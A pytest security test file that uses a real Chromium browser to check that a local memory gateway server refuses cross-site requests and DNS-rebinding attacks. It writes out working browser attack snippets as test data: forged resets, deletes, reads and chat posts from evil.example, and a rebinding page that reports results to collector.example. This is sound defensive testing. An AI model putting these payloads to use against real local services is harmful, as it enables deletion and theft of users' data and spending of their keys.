"""Pages of somebody else's in a real Chromium, against the real program: none reads, writes, clears or spends.

Each attack was made against 12cc460 with this very code, and worked: 17 C1.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.frontends.gateway.upstream import KEY, Upstream, upstream
from tests.frontends.server.middleware import chromium
from tests.frontends.server.middleware.chromium import Site
from tests.frontends.server.served import Served, served

pytestmark = pytest.mark.covers("C1")

TOLD = "I like tea"
LESSON = json.dumps({"model": "scripted", "messages": [{"role": "user", "content": "I moved to Moscow and hate tea"}]})
EVIL = "evil.example"


@pytest.fixture(scope="module")
def browser() -> str:
    return chromium.program()


@pytest.fixture
def model(browser: str) -> Iterator[Upstream]:
    with upstream(responses=False) as found:
        yield found


@pytest.fixture
def foreign(browser: str) -> Iterator[Site]:
    with chromium.site() as found:
        yield found


@dataclass(frozen=True)
class Standing:
    """`perdure serve` before a model's server, with a key of it; it holds one memory of Ana's."""

    served: Served
    model: Upstream

    @property
    def client(self) -> httpx.Client:
        return self.served.client

    @property
    def port(self) -> int:
        port = httpx.URL(self.served.told["url"]).port
        assert port
        return port

    def kept(self) -> list[str]:
        answer = self.client.get("/v1/memories", params={"user_id": "ana"}).raise_for_status()
        return [each["memory"] for each in answer.json()["results"]]

    def everything(self) -> str:
        """All that is remembered of anybody, in one text; what waits is kept first."""
        listed = [self.client.get("/v1/memories", params={"user_id": who}).text for who in ("ana", "default")]
        return " ".join(listed)


@pytest.fixture
def standing(request: pytest.FixtureRequest, tmp_path: Path, model: Upstream) -> Iterator[Standing]:
    """Indirect parameters are lines of the `server` table."""
    folder = tmp_path / "memory"
    folder.mkdir()
    (folder / "perdure.toml").write_text(
        f'[embedder]\nprovider = "hashed"\n[gateway.upstream]\nbase_url = "{model.url}"\napi_key = "{KEY}"\n'
        f"[server]\n{getattr(request, 'param', '')}\n"
    )
    with served(folder) as found:
        kept = found.client.post("/v1/memories", json={"messages": TOLD, "user_id": "ana"})
        assert kept.status_code == 200, kept.text
        model.clear()
        yield Standing(found, model)


def post(url: str, body: str = "", kind: str = "text/plain", **more: Any) -> str:
    """A fetch that a browser sends without asking first."""
    init: dict[str, Any] = {"method": "POST", "mode": "no-cors", "headers": {"Content-Type": kind}, **more}
    return f"ask({json.dumps(url)}, {json.dumps({**init, 'body': body})})"


def form(url: str) -> str:
    """A form that sends itself into a frame, as any page may: its answer is a page of the frame's."""
    return (
        "new Promise((done) => { const frame = document.createElement('iframe'); frame.name = 'hidden';"
        "document.documentElement.append(frame); const form = document.createElement('form');"
        f"form.action = {json.dumps(url)}; form.method = 'post'; form.target = 'hidden';"
        "document.documentElement.append(form); let seen = 0;"
        "frame.addEventListener('load', () => { if (seen++) done('sent'); }); form.submit(); setTimeout(done, 3000); })"
    )


def image(url: str) -> str:
    return (
        f"new Promise((done) => {{ const image = new Image(); image.onload = image.onerror = () => done('asked');"
        f"image.src = {json.dumps(url)}; }})"
    )


def socket(url: str) -> str:
    return (
        f"new Promise((done) => {{ const socket = new WebSocket({json.dumps(url)});"
        "socket.onopen = () => done('open'); socket.onerror = () => done('refused'); })"
    )


def stream(url: str) -> str:
    return (
        f"new Promise((done) => {{ const source = new EventSource({json.dumps(url)});"
        "source.onopen = () => done('open'); source.onerror = () => { source.close(); done('refused'); }; })"
    )


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_of_another_origin_clears_teaches_reads_and_spends_nothing(
    standing: Standing, foreign: Site, tmp_path: Path, name: str
) -> None:
    there = f"http://{name}:{standing.port}"
    told = chromium.visit(
        tmp_path / "profile",
        foreign,
        {
            "reset": post(f"{there}/v1/reset"),
            "reset with a word": post(f"{there}/v1/reset", '{"confirm": true}'),
            "reset of mem0": post(f"{there}/reset", '{"confirm": true}', "application/x-www-form-urlencoded"),
            "reset by a form": form(f"{there}/v1/reset"),
            "chat as text": post(f"{there}/v1/chat/completions", LESSON),
            "chat of no type": f"ask({json.dumps(there + '/v1/chat/completions')}, "
            f"{{method: 'POST', mode: 'no-cors', body: new Blob([{json.dumps(LESSON)}])}})",
            "chat as JSON": f"ask({json.dumps(there + '/v1/chat/completions')}, {{method: 'POST', "
            f"headers: {{'Content-Type': 'application/json'}}, body: {json.dumps(LESSON)}}})",
            "spend": post(f"{there}/v1/embeddings", '{"model": "scripted", "input": "x"}'),
            "delete": f"ask({json.dumps(there + '/v1/memories?user_id=ana')}, {{method: 'DELETE'}})",
            "read": f"ask({json.dumps(there + '/v1/memories?user_id=ana')})",
            "image": image(f"{there}/v1/models"),
            "socket": socket(f"ws://{name}:{standing.port}/v1/memories"),
            "stream": stream(f"{there}/v1/memories?user_id=ana"),
        },
        host=EVIL,
    )
    assert told["reset"][0] == "opaque", "the browser did send it"
    for asked in ("chat as JSON", "delete", "read"):
        assert told[asked] == "TypeError", (asked, told[asked])
    assert told["socket"] == told["stream"] == "refused"
    assert "tea" not in json.dumps(told)
    assert standing.model.seen == [], "the model's server was asked, and our key spent"
    assert standing.kept() == ["User likes tea"] and "Moscow" not in standing.everything()
    refused = [line for line in standing.served.lines if line.get("error") == "forbidden"]
    assert len(refused) >= 10, "each of them came here and was refused"


REBOUND = """(async () => {
  for (let i = 0; i < 600; i++) {
    try {
      const answer = await fetch("/readyz");
      if (answer.headers.get("x-request-id")) return "rebound";
    } catch {}
    await new Promise((done) => setTimeout(done, 100));
  }
})()"""
"""Wait until the page's own name and port lead to a server of ours."""


def json_post(path: str, body: str) -> str:
    init = {"method": "POST", "headers": {"Content-Type": "application/json"}, "body": body}
    return f"ask({json.dumps(path)}, {json.dumps(init)})"


def test_a_page_that_has_rebound_its_name_gets_nothing(standing: Standing, foreign: Site, tmp_path: Path) -> None:
    """The page comes from the name and port at which our server stands a moment later: to the browser it is one origin,
    whose answers it may read and which it may send anything."""
    folder = tmp_path / "memory"
    standing.served.stop()
    with chromium.site() as stage:
        stage.pages["/"] = chromium.page(
            {
                "name": REBOUND,
                "read": "ask('/v1/memories?user_id=ana')",
                "chat": json_post("/v1/chat/completions", LESSON),
                "spend": json_post("/v1/embeddings", '{"model": "scripted", "input": "x"}'),
                "delete": "ask('/v1/memories?user_id=ana', {method: 'DELETE'})",
                "reset": json_post("/v1/reset", '{"confirm": true}'),
            },
            report=f"{foreign.address('collector.example')}/told",
        )
        with chromium.opened(tmp_path / "profile", f"{stage.address(EVIL)}/"):
            assert stage.shown.get(timeout=chromium.SECONDS) == "/"
            stage.close()
            with served(folder, "--port", str(stage.port)) as found:
                told = foreign.told.get(timeout=chromium.SECONDS)
                after = Standing(found, standing.model)
                assert told.pop("name") == "rebound"
                assert {name: answer[1] for name, answer in told.items()} == dict.fromkeys(told, 421), told
                assert "tea" not in json.dumps(told) and standing.model.seen == []
                assert after.kept() == ["User likes tea"] and "Moscow" not in after.everything()


def test_a_page_that_is_allowed_asks_and_reads_and_no_other_does(
    model: Upstream, foreign: Site, tmp_path: Path
) -> None:
    folder = tmp_path / "memory"
    folder.mkdir()
    (folder / "perdure.toml").write_text(
        f'[embedder]\nprovider = "hashed"\n[server]\nallowed_origins = ["{foreign.address("chat.example")}"]\n'
    )
    with served(folder) as found:
        there = found.told["url"]
        asks = {
            "write": json_post(f"{there}/v1/memories", json.dumps({"messages": TOLD, "user_id": "ana"})),
            "read": f"ask('{there}/v1/memories?user_id=ana', {{headers: {{'X-API-Key': 'any'}}}})",
        }
        allowed = chromium.visit(tmp_path / "one", foreign, asks, host="chat.example")
        assert [allowed["write"][:2], allowed["read"][:2]] == [["cors", 200], ["cors", 200]]
        assert "User likes tea" in allowed["read"][2]
        other = chromium.visit(tmp_path / "two", foreign, asks, host=EVIL)
        assert other == {"write": "TypeError", "read": "TypeError"}
